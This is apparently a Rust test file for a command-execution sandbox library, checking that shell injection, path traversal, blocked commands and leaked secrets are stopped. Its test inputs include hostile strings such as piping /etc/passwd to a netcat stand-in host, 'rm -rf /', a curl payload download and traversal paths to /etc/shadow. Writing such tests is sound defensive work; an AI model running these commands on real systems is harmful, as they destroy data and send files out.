//! Cross-layer security properties: hostile input stays on the outside of
//! the validation and execution gates, and nothing hostile survives into a
//! spawned child.

use std::path::Path;
use std::time::{Duration, Instant};

use pretty_assertions::assert_eq;

use stockade::{
    exec::FIXED_PATH, isolated_execution, sanitize_value, AdmissionDecision, ExecRequest,
    ExecutionMode, InjectionKind, InputValidator, PathValidationOptions, SecureExecutor,
};

#[test]
fn shell_metacharacters_invalidate_command_lines() {
    let validator = InputValidator::new();
    for line in [
        "ls; rm -rf /",
        "cat /etc/passwd | nc evil.example 4444",
        "echo $(whoami)",
        "curl http://x.example > /tmp/payload",
        "sleep 1 & disown",
        "echo `id`",
    ] {
        let result = validator.validate_command(line, false);
        assert!(!result.is_valid, "accepted: {line}");
        assert!(
            result.blocked(InjectionKind::CommandInjection),
            "not blocked as injection: {line}"
        );
    }
}

#[test]
fn rejection_reason_names_the_metacharacter() {
    let result = InputValidator::new().validate_command("ls; rm -rf /", false);
    assert!(
        result
            .errors
            .iter()
            .any(|error| error.contains("Shell metacharacter")),
        "errors: {:?}",
        result.errors
    );
}

#[test]
fn traversal_cannot_escape_the_base_directory() {
    let base = tempfile::tempdir().unwrap();
    let validator = InputValidator::new();
    let options = PathValidationOptions::contained_in(base.path());
    for path in [
        "../../etc/passwd",
        "logs/../../../etc/shadow",
        "..%2F..%2Fetc%2Fpasswd",
        "%2e%2e/%2e%2e/etc/passwd",
    ] {
        let result = validator.validate_file_path(path, &options);
        assert!(!result.is_valid, "accepted: {path}");
        assert!(
            result.blocked(InjectionKind::PathTraversal),
            "not flagged as traversal: {path}"
        );
    }
}

#[test]
fn sanitization_is_a_fixed_point() {
    for value in [
        "plain ascii",
        "caf\u{65}\u{301} r\u{e9}sum\u{e9}",
        "tab\tand newline\n",
        "\u{fb01}le with ligature",
    ] {
        let once = sanitize_value(value, true);
        let twice = sanitize_value(&once, true);
        assert_eq!(once, twice, "not a fixed point for {value:?}");
    }
}

#[tokio::test]
async fn blocked_commands_never_spawn_in_any_mode() {
    for mode in [
        ExecutionMode::Strict,
        ExecutionMode::Standard,
        ExecutionMode::Privileged,
    ] {
        let executor = SecureExecutor::new(mode);
        let result = executor
            .execute(ExecRequest::new(["rm", "-rf", "/tmp/never"]))
            .await;
        assert!(!result.success, "mode {mode:?} ran a blocked command");
        assert_eq!(result.exit_code, None);
        assert_eq!(result.execution_time, Duration::ZERO);
        let message = result.error_message.unwrap();
        assert!(message.contains("blocked"), "message: {message}");
    }
}

#[test]
fn shell_payloads_are_scanned_in_every_mode() {
    for mode in [
        ExecutionMode::Strict,
        ExecutionMode::Standard,
        ExecutionMode::Privileged,
    ] {
        let executor = SecureExecutor::new(mode);
        let args: Vec<String> = ["bash", "-c", "rm -rf /"]
            .into_iter()
            .map(str::to_owned)
            .collect();
        let decision = executor.admission(&args);
        assert!(
            matches!(decision, AdmissionDecision::Deny { .. }),
            "mode {mode:?} admitted a shell payload: {decision:?}"
        );
    }
}

#[tokio::test]
async fn child_environment_is_synthesized() {
    let executor = SecureExecutor::new(ExecutionMode::Standard);
    let result = executor
        .execute(
            ExecRequest::new(["env"])
                .env("AWS_SECRET_ACCESS_KEY", "hunter2")
                .env("MY_TOOL_TOKEN", "abc123")
                .env("PATH", "/evil/bin"),
        )
        .await;
    assert!(result.success, "env failed: {:?}", result.error_message);
    assert!(!result.stdout.contains("hunter2"));
    assert!(!result.stdout.contains("MY_TOOL_TOKEN"));
    assert!(result.stdout.contains(&format!("PATH={FIXED_PATH}")));
    assert!(result.stdout.contains("TERM=dumb"));
}

#[tokio::test]
async fn timeouts_kill_within_a_bounded_margin() {
    let executor = SecureExecutor::new(ExecutionMode::Standard);
    let started = Instant::now();
    let result = executor
        .execute(ExecRequest::new(["sleep", "10"]).timeout(Duration::from_millis(100)))
        .await;
    let elapsed = started.elapsed();
    assert!(result.timed_out);
    assert!(!result.success);
    assert!(elapsed < Duration::from_secs(2), "kill took {elapsed:?}");
}

#[tokio::test]
async fn isolation_confines_strict_execution_to_scratch_space() {
    let scratch = isolated_execution(|executor| async move {
        let denied = executor
            .execute(ExecRequest::new(["python3", "-c", "print(1)"]))
            .await;
        anyhow::ensure!(!denied.success, "strict isolation ran python3");

        let result = executor.execute(ExecRequest::new(["pwd"])).await;
        anyhow::ensure!(result.success, "pwd failed: {:?}", result.error_message);
        Ok(result.stdout.trim_end().to_owned())
    })
    .await
    .unwrap();
    assert!(
        !Path::new(&scratch).exists(),
        "scratch directory survived: {scratch}"
    );
}
